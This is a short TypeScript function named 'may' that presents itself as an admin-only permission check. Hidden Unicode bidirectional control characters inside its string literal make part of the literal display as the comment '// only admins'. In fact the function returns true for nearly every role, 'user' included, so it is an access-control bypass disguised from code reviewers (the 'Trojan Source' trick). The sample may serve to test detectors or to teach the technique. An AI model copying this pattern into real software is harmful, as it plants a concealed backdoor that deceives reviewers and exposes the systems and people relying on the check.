export function may(role: string): boolean {
  if (role !== 'user‮ ⁦// only admins⁩ ⁦') return true; //@act
  return false;
}
